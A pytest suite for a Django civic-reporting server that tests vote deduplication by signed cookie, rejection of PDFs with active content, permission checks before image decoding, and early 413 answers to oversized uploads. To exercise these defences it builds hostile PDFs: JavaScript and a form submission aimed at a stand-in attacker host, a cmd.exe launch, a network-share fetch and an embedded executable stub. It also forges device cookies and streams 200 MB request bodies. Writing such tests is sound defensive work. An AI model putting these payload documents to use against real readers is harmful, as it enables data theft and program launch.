"""Issue #19, findings 7 to 10: "+1"s, documents and uploads, from the outside (HTTP against the
running server).

- A "+1" counts once per device, and the device is a cookie the server signs and issues (HttpOnly,
  SameSite=Lax, a year): ids a client makes up count nothing, and one address is given at most
  LAPOR_RATE_NEW_DEVICES new devices an hour (lowered to 5 for a server of its own here).
- A PDF with active content (JavaScript, an action run on opening, a program launch, embedded files,
  a form that sends or fetches data, XFA, Flash) is refused with a clear message and nothing is
  written; a PDF that merely shows those words, opens at page 1 or links to a web page is accepted.
- Another agency's operator posting a 40-megapixel after-photo is refused before the photo is
  decoded.
- A body larger than its path allows is answered 413 in the path's own shape and language as soon as
  its headers are in: the 200 MB body below is streamed by a generator that counts what it yielded,
  and the answer arrives while most of it was never sent. Django's own refusal of form fields over its
  limit is a JSON 413 too, and a body without a length 411.

Indonesian messages are what the project's translations say for the English message id (the same
catalogue the server uses), so these tests hold before and after the catalogue is updated.
"""

import io
import itertools
import json
import secrets
import time
import xml.etree.ElementTree as ET

import httpx
import pytest
from django.utils import translation
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tests.conftest import AppServer
from tests.geo_reports.test_documents import counts, file_request, stored_files

from . import records
from .conftest import auth, file_report, row_counts

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
NEW_DEVICE_LIMIT = 5
RATE_LIMITED = "Too many submissions from here. Please try again in %(minutes)d minutes."
_addresses = (f"127.55.{b}.{c}" for b, c in itertools.product(range(1, 250), range(2, 250)))


def in_language(language: str, message: str, **values) -> str:
    with translation.override(language):
        return translation.gettext(message) % values if values else translation.gettext(message)


def client_from(server: str, address: str | None = None) -> httpx.Client:
    """A client (its own cookie jar) whose requests come from its own loopback address."""
    return httpx.Client(
        base_url=server, transport=httpx.HTTPTransport(local_address=address or next(_addresses)), timeout=120
    )


# --- finding 7: "+1" once per device ---------------------------------------------------------------


def device_cookie(response: httpx.Response) -> str | None:
    return next((c for c in response.headers.get_list("set-cookie") if c.startswith("lapor_device=")), None)


def test_made_up_device_ids_count_once_per_device(server):
    """35 random device ids from one browser (one cookie jar) are one supporter, not 35."""
    report = file_report(server, description="Tumpukan sampah untuk uji +1")
    url = f"/api/reports/{report['id']}/support/"
    with client_from(server) as client:
        answers = [client.post(url, json={"device_id": f"web-{secrets.token_hex(16)}"}) for _ in range(35)]
    counted = sum(1 for answer in answers if answer.status_code == 201 and answer.json()["counted"])
    records.note(__name__, made_up_ids=35, made_up_ids_counted=counted)
    assert counted == 1, [a.status_code for a in answers]
    assert [a.status_code for a in answers[1:]] == [200] * 34
    assert answers[-1].json() == {"counted": False, "support_count": 1}

    cookie = device_cookie(answers[0])
    assert cookie is not None, answers[0].headers
    attributes = {part.strip().split("=")[0].lower(): part.strip() for part in cookie.split(";")[1:]}
    assert "httponly" in attributes and attributes["samesite"].lower() == "samesite=lax"
    assert attributes["max-age"].lower() == f"max-age={365 * 24 * 3600}" and attributes["path"] == "Path=/"
    assert all(device_cookie(a) is None for a in answers[1:])  # issued once


def test_the_device_is_the_signed_cookie_and_a_forged_one_is_not(server):
    report = file_report(server, description="Lampu padam untuk uji cookie")
    url = f"/api/reports/{report['id']}/support/"
    with client_from(server) as phone:
        first = phone.post(url, json={})
        assert first.status_code == 201, first.text
        issued = phone.cookies["lapor_device"]
    # The same cookie from elsewhere is the same device.
    with client_from(server) as same_device:
        same_device.cookies.set("lapor_device", issued, domain="127.0.0.1")
        again = same_device.post(url, json={"device_id": "web-another-id-1234"})
        assert again.status_code == 200 and again.json() == {"counted": False, "support_count": 1}
    # A cookie the server did not sign (an id chosen by the client, or a signature altered) is no
    # device: a new one is issued, and it counts as a new device, once.
    for forged in ("web-my-own-device-id", issued[:-2] + ("AA" if not issued.endswith("AA") else "BB")):
        with client_from(server) as client:
            client.cookies.set("lapor_device", forged, domain="127.0.0.1")
            answer = client.post(url, json={})
            assert answer.status_code == 201, answer.text
            assert device_cookie(answer) is not None and client.cookies["lapor_device"] != forged
            assert client.post(url, json={}).json()["counted"] is False
    records.note(__name__, forged_cookies_refused=2)


@pytest.fixture(scope="module")
def devices_limited(app_env):
    records.note(__name__, new_device_limit=NEW_DEVICE_LIMIT)
    app = AppServer({**app_env, "LAPOR_RATE_NEW_DEVICES": str(NEW_DEVICE_LIMIT)}, "uploads-devices")
    try:
        yield app.wait_until_up().url
    finally:
        app.stop()


def test_one_address_is_given_a_bounded_number_of_devices(devices_limited, server):
    """A script dropping its cookie before each "+1" from one address: 5 count, the rest get 429."""
    report = file_report(server, description="Jalan berlubang untuk uji alamat")
    url = f"/api/reports/{report['id']}/support/"
    address = next(_addresses)
    answers = []
    for _ in range(35):
        with client_from(devices_limited, address) as fresh:
            answers.append(fresh.post(url, json={"device_id": f"web-{secrets.token_hex(16)}"}))
    statuses = [a.status_code for a in answers]
    records.note(__name__, fresh_devices_from_one_address=35, fresh_devices_counted=statuses.count(201))
    assert statuses == [201] * NEW_DEVICE_LIMIT + [429] * (35 - NEW_DEVICE_LIMIT)
    with client_from(devices_limited, address) as english:
        in_english = english.post(url, json={}, headers={"Accept-Language": "en"})
    for refused, language in ((answers[-1], "id"), (in_english, "en")):
        assert refused.status_code == 429 and refused.headers["Content-Type"] == "application/json"
        minutes = max(1, int(refused.headers["Retry-After"]) // 60)
        assert refused.json()["detail"] == in_language(language, RATE_LIMITED, minutes=minutes)
    assert httpx.get(f"{server}/api/reports/{report['id']}/").json()["properties"]["support_count"] == NEW_DEVICE_LIMIT
    # Devices already issued keep working from that address, and another address is not affected.
    with client_from(devices_limited, address) as known:
        known.cookies.set("lapor_device", answers[0].cookies["lapor_device"], domain="127.0.0.1")
        other_report = file_report(server, description="Laporan lain untuk perangkat yang sama")
        assert known.post(f"/api/reports/{other_report['id']}/support/", json={}).status_code == 201
    with client_from(devices_limited) as neighbour:
        assert neighbour.post(url, json={}).status_code == 201


# --- finding 8: PDFs with active content ---------------------------------------------------------


def action(kind: str, **entries) -> DictionaryObject:
    values = {NameObject("/S"): NameObject(kind)}
    for key, value in entries.items():
        values[NameObject(f"/{key}")] = value
    return DictionaryObject(values)


def link(target: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(200), FloatObject(80)]),
            NameObject("/A"): target,
        }
    )


def form(field_action: DictionaryObject | None = None, **acroform):
    def change(writer, page):
        widget = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Btn"),
                NameObject("/T"): TextStringObject("kirim"),
                NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(200), FloatObject(80)]),
            }
        )
        if field_action is not None:
            widget[NameObject("/A")] = field_action
        reference = writer._add_object(widget)
        page[NameObject("/Annots")] = ArrayObject([reference])
        fields = {NameObject("/Fields"): ArrayObject([reference])}
        fields.update({NameObject(f"/{k}"): v for k, v in acroform.items()})
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(fields)

    return change


def crafted_pdf(change) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(420, 594)
    change(writer, page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _set(key, value):
    def change(writer, page):
        writer.root_object[NameObject(key)] = value

    return change


def _page_open_script(writer, page):
    script = action("/JavaScript", JS=TextStringObject("app.launchURL('http://penyerang.contoh/');"))
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})


def _annotation(annotation):
    def change(writer, page):
        writer.add_annotation(page, annotation)

    return change


ALERT = TextStringObject("app.alert('Dokumen ini aman');")
ACTIVE_PDFS = [
    ("JavaScript run on opening (/OpenAction)", _set("/OpenAction", action("/JavaScript", JS=ALERT))),
    ("document JavaScript (the names tree)", lambda writer, page: writer.add_open_action(JavaScript("app.alert(1)"))),
    ("JavaScript when a page opens (/AA)", _page_open_script),
    ("web page opened on opening", _set("/OpenAction", action("/URI", URI=TextStringObject("http://contoh.id/")))),
    ("program launched by a link", _annotation(link(action("/Launch", F=TextStringObject("cmd.exe"))))),
    ("file on a network share opened", _annotation(link(action("/GoToR", F=TextStringObject(r"\\10.0.0.9\x.pdf"))))),
    ("embedded file", lambda writer, page: writer.add_attachment("tagihan.exe", b"MZ\x90\x00" + b"\x00" * 60)),
    ("form that submits its data", form(action("/SubmitForm", F=TextStringObject("http://penyerang.contoh/")))),
    ("form that imports data", form(action("/ImportData", F=TextStringObject("data.fdf")))),
    ("XFA form", form(XFA=ArrayObject([TextStringObject("template"), TextStringObject("<xdp/>")]))),
    (
        "Flash (RichMedia) annotation",
        _annotation(
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/RichMedia"),
                    NameObject("/Rect"): ArrayObject(
                        [FloatObject(0), FloatObject(0), FloatObject(10), FloatObject(10)]
                    ),
                }
            )
        ),
    ),
]
ACTIVE_MESSAGE = (
    "%(name)s contains active content (scripts, embedded files, actions that run on opening or send form data), "
    "which is not accepted. Print it to a new PDF or scan it, and send that file."
)


@pytest.mark.parametrize(("case", "change"), ACTIVE_PDFS, ids=[case for case, _ in ACTIVE_PDFS])
def test_a_pdf_with_active_content_is_refused_and_nothing_is_written(api, case, change):
    document = crafted_pdf(change)
    before, before_files = counts(), stored_files()
    for language in ("id", "en"):
        response = file_request(api, language=language, files=[("permohonan.pdf", document, "application/pdf")])
        assert response.status_code == 400, (case, response.text[:300])
        expected = in_language(language, ACTIVE_MESSAGE, name="permohonan.pdf")
        assert response.json()["errors"]["documents"] == [expected]
        assert response.headers["content-language"] == language
    assert counts() == before and stored_files() == before_files
    records.count(__name__, "active_pdfs_refused")


def _shows_the_words(writer, page):
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
    )
    text = DecodedStreamObject()
    text.set_data(b"BT /F1 11 Tf 40 500 Td (/JavaScript /OpenAction /Launch /EmbeddedFile /SubmitForm) Tj ET")
    page[NameObject("/Contents")] = writer._add_object(text)


def _opens_at_page_one(writer, page):
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])


def _goes_to_page_one(writer, page):
    target = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    writer.root_object[NameObject("/OpenAction")] = action("/GoTo", D=target)


PLAIN_PDFS = [
    ("text naming /JavaScript and /OpenAction", _shows_the_words),
    ("opens at page 1 (a destination)", _opens_at_page_one),
    ("opens at page 1 (a GoTo action)", _goes_to_page_one),
    ("a link to a web page", _annotation(link(action("/URI", URI=TextStringObject("https://batukota.go.id/"))))),
]


@pytest.mark.parametrize(("case", "change"), PLAIN_PDFS, ids=[case for case, _ in PLAIN_PDFS])
def test_a_pdf_without_active_content_is_accepted_unchanged(api, case, change):
    document = crafted_pdf(change)
    response = file_request(api, files=[("rencana.pdf", document, "application/pdf")])
    assert response.status_code == 201, (case, response.text[:300])
    assert [d["name"] for d in response.json()["properties"]["documents"]] == ["rencana.pdf"]
    records.count(__name__, "plain_pdfs_accepted")


# --- finding 9: permission before the after-photo is read -------------------------------------------


@pytest.fixture(scope="module")
def big_png() -> bytes:
    """40 megapixels (the most a photo may have), a few hundred KB as PNG."""
    image = Image.new("RGB", (8000, 5000), (120, 140, 90))
    for x in range(0, 8000, 250):
        image.paste((30, 60, 150), (x, 0, x + 40, 5000))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def timed_post(client, url, **kwargs) -> tuple[httpx.Response, float]:
    started = time.perf_counter()
    response = client.post(url, **kwargs)
    return response, time.perf_counter() - started


def test_another_agencys_photo_is_refused_before_it_is_decoded(server, staff_users, big_png):
    report = file_report(server, description="Sampah untuk uji foto sesudah")  # DLH's
    url = f"/api/reports/{report['id']}/transition/"
    other, owner = auth(staff_users["dishub-operator"]), auth(staff_users["dlh-operator"])
    fields = {"status": "resolved", "version": "1", "message": "Sudah dibersihkan"}
    photo = {"photo": ("sesudah.png", big_png, "image/png")}
    broken = {"photo": ("sesudah.png", big_png[: len(big_png) // 2], "image/png")}
    before = row_counts()
    with httpx.Client(base_url=server, timeout=120) as client:
        # Deterministic: a broken photo from another agency is refused for who sends it, not for the photo.
        refused_broken = client.post(url, data=fields, files=broken, headers=other)
        assert refused_broken.status_code == 403, refused_broken.text[:300]
        without, with_photo, decoding = [], [], []
        for _ in range(3):
            response, elapsed = timed_post(client, url, data=fields, headers=other)
            assert response.status_code == 403
            without.append(elapsed)
            response, elapsed = timed_post(client, url, data=fields, files=photo, headers=other)
            assert response.status_code == 403, response.text[:300]
            with_photo.append(elapsed)
            # What decoding costs: the agency's own operator, with a status that does not exist (400
            # after every field, the photo included, was checked; nothing is changed).
            response, elapsed = timed_post(
                client, url, data={**fields, "status": "selesai"}, files=photo, headers=owner
            )
            assert response.status_code == 400 and set(response.json()["errors"]) == {"status"}, response.text
            decoding.append(elapsed)
    assert row_counts() == before
    records.note(
        __name__,
        photo_megapixels=40,
        refused_without_photo_s=round(min(without), 3),
        refused_with_photo_s=round(min(with_photo), 3),
        photo_checked_by_owner_s=round(min(decoding), 3),
    )
    assert min(with_photo) < min(decoding) / 3, (without, with_photo, decoding)


# --- finding 10: size limits answered before the body is read ------------------------------------


class Streamed:
    """A request body of `size` bytes yielded 1 MB at a time, counting what was yielded."""

    def __init__(self, size: int, head: bytes = b"", tail: bytes = b""):
        self.head, self.size, self.tail = head, size, tail
        self.yielded = 0

    @property
    def length(self) -> int:
        return len(self.head) + self.size + len(self.tail)

    def __iter__(self):
        chunk = b"\x00" * MB
        for part in [self.head] + [chunk] * (self.size // MB) + [self.tail]:
            self.yielded += len(part)
            yield part


BOUNDARY = "batas-unggahan-uji"


def multipart_photo(size: int, fields: dict[str, str], name: str = "photo") -> Streamed:
    head = "".join(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'
        for key, value in fields.items()
    )
    head += f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"; filename="besar.jpg"\r\n'
    head += "Content-Type: image/jpeg\r\n\r\n"
    return Streamed(size, head.encode(), f"\r\n--{BOUNDARY}--\r\n".encode())


def post_streamed(server, path, body: Streamed, content_type: str, **headers) -> tuple[httpx.Response, int]:
    """POST the body with its Content-Length; the answer, and how much had been yielded when it came."""
    with httpx.Client(base_url=server, timeout=120) as client:
        response = client.post(
            path,
            content=iter(body),
            headers={"Content-Type": content_type, "Content-Length": str(body.length), **headers},
        )
        return response, body.yielded


TOO_LARGE = "The request is too large (%(size).1f MB); at most %(limit).1f MB is accepted here."


def test_a_200_mb_photo_is_refused_before_it_is_received(server, staff_users):
    from django.conf import settings

    report = file_report(server, description="Sampah untuk uji unggahan besar")
    limit = settings.LAPOR_PHOTO_MAX_BYTES + MB
    before = row_counts()
    for language in ("id", "en"):
        body = multipart_photo(200 * MB, {"status": "resolved", "version": "1"})
        response, yielded = post_streamed(
            server,
            f"/api/reports/{report['id']}/transition/",
            body,
            f"multipart/form-data; boundary={BOUNDARY}",
            Authorization=f"Token {staff_users['dlh-operator']}",
            **{"Accept-Language": language},
        )
        assert response.status_code == 413, response.text[:300]
        assert response.headers["Content-Type"] == "application/json"
        message = in_language(language, TOO_LARGE, size=body.length / MB, limit=limit / MB)
        assert response.json() == {"detail": message, "errors": {"body": [message]}}
        assert yielded < body.length / 4, yielded
        records.note(__name__, **{f"mb_sent_of_200_when_answered_{language}": round(yielded / MB, 1)})
    assert row_counts() == before
    assert httpx.get(f"{server}/healthz", timeout=30).status_code == 200


def test_a_json_body_over_the_limit_is_refused_before_it_is_read(server):
    from django.conf import settings

    limit = settings.LAPOR_BODY_MAX_BYTES
    body = Streamed(limit + MB, b'{"type": "Feature", "properties": {"description": "', b'"}}')
    response, _yielded = post_streamed(server, "/api/reports/", body, "application/json")
    assert response.status_code == 413, response.text[:300]
    message = in_language("id", TOO_LARGE, size=body.length / MB, limit=limit / MB)
    assert response.json() == {"detail": message, "errors": {"body": [message]}}
    records.note(__name__, body_limit_mb=round(limit / MB, 1))


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_open311_answers_413_in_its_own_format(server, fmt):
    body = multipart_photo(200 * MB, {"service_code": "sampah", "lat": "-7.8763", "long": "112.5290"}, "media")
    response, yielded = post_streamed(
        server,
        f"/open311/v2/requests.{fmt}",
        body,
        f"multipart/form-data; boundary={BOUNDARY}",
        **{"Accept-Language": "en"},
    )
    assert response.status_code == 413, response.text[:300]
    assert yielded < body.length / 4
    if fmt == "json":
        [error] = response.json()
        assert error["code"] == 413 and error["description"].startswith("The request is too large (200.0 MB)")
    else:
        error = ET.fromstring(response.content).find("error")
        assert error.findtext("code") == "413"
        assert error.findtext("description").startswith("The request is too large (200.0 MB)")


@pytest.mark.parametrize(("path", "language"), [("/masuk/", "id"), ("/en/masuk/", "en")])
def test_a_page_answers_413_with_a_page(server, path, language):
    from django.conf import settings

    body = Streamed(20 * MB, b"username=petugas&password=")
    response, yielded = post_streamed(server, path, body, "application/x-www-form-urlencoded")
    assert response.status_code == 413, response.text[:300]
    assert response.headers["Content-Type"].startswith("text/html")
    limit = settings.LAPOR_BODY_MAX_BYTES
    assert in_language(language, TOO_LARGE, size=body.length / MB, limit=limit / MB) in response.text
    assert f'lang="{language}"' in response.text
    assert yielded < body.length / 2


def test_djangos_own_refusal_of_large_form_fields_is_a_json_413(api):
    """A description of 9 MB in a multipart report: under the upload limit of the path, over Django's
    limit on form fields (DATA_UPLOAD_MAX_MEMORY_SIZE), which Django answered with its HTML 400 page."""
    from django.conf import settings

    before = row_counts()
    data = {"category": "sampah", "geometry": json.dumps({"type": "Point", "coordinates": [112.529, -7.8763]})}
    data["description"] = "x" * (9 * MB)
    files = [("photos", ("kecil.jpg", b"\xff\xd8\xff", "image/jpeg"))]
    for language in ("id", "en"):
        response = api.post("/api/reports/", data=data, files=files, headers={"Accept-Language": language})
        assert response.status_code == 413, response.text[:300]
        message = in_language(
            language,
            "The request's fields (files apart) are too large; at most %(limit).1f MB is accepted.",
            limit=settings.DATA_UPLOAD_MAX_MEMORY_SIZE / MB,
        )
        assert response.json() == {"detail": message, "errors": {"body": [message]}}
    assert row_counts() == before


def test_a_body_without_a_length_is_refused(api):
    report = json.dumps({"type": "Feature", "properties": {"category": "sampah"}}).encode()
    response = api.post("/api/reports/", content=iter([report]), headers={"Content-Type": "application/json"})
    assert response.status_code == 411, response.text[:300]
    message = in_language("id", "Send the request body with its length (a Content-Length header), not in chunks.")
    assert response.json() == {"detail": message, "errors": {"body": [message]}}
